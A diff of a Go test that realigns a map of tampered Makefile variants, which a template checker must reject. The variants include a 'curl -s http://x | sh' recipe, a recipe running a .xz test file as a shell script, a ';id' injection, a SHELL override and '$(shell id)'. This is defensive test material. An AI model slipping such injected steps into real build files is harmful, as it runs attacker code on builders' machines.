@@ -47,13 +47,13 @@ func TestScriptEchoTemplates(t *testing.T) {
 		t.Error("update.sh's Makefile not proved")
 	}
 	bad := map[string]string{
-		"other recipe":           strings.Replace(updateMakefile, "\tgroff -mdoc -T html ../../tar/bsdtar.1", "\tcurl -s http://x | sh; groff -mdoc -T html ../../tar/bsdtar.1", 1),
-		"recipe line added":      updateMakefile + "\tsh ../../tests/files/bad-3.xz\n",
-		"code in an expansion":   strings.Replace(updateMakefile, "../../tar/bsdtar.1 > bsdtar", "../../tar/bsdtar.1;id > bsdtar", 1),
-		"make variable":          updateMakefile + "SHELL = /tmp/x\n",
-		"make function":          updateMakefile + "all: $(shell id)\n",
-		"no final newline":       strings.TrimSuffix(updateMakefile, "\n"),
-		"only expansions":        "\n\nx y\n",
+		"other recipe":         strings.Replace(updateMakefile, "\tgroff -mdoc -T html ../../tar/bsdtar.1", "\tcurl -s http://x | sh; groff -mdoc -T html ../../tar/bsdtar.1", 1),
+		"recipe line added":    updateMakefile + "\tsh ../../tests/files/bad-3.xz\n",
+		"code in an expansion": strings.Replace(updateMakefile, "../../tar/bsdtar.1 > bsdtar", "../../tar/bsdtar.1;id > bsdtar", 1),
+		"make variable":        updateMakefile + "SHELL = /tmp/x\n",
+		"make function":        updateMakefile + "all: $(shell id)\n",
+		"no final newline":     strings.TrimSuffix(updateMakefile, "\n"),
+		"only expansions":      "\n\nx y\n",
 	}
 	for name, c := range bad {
 		if tpl.Written("doc/html/Makefile", []byte(c)) {
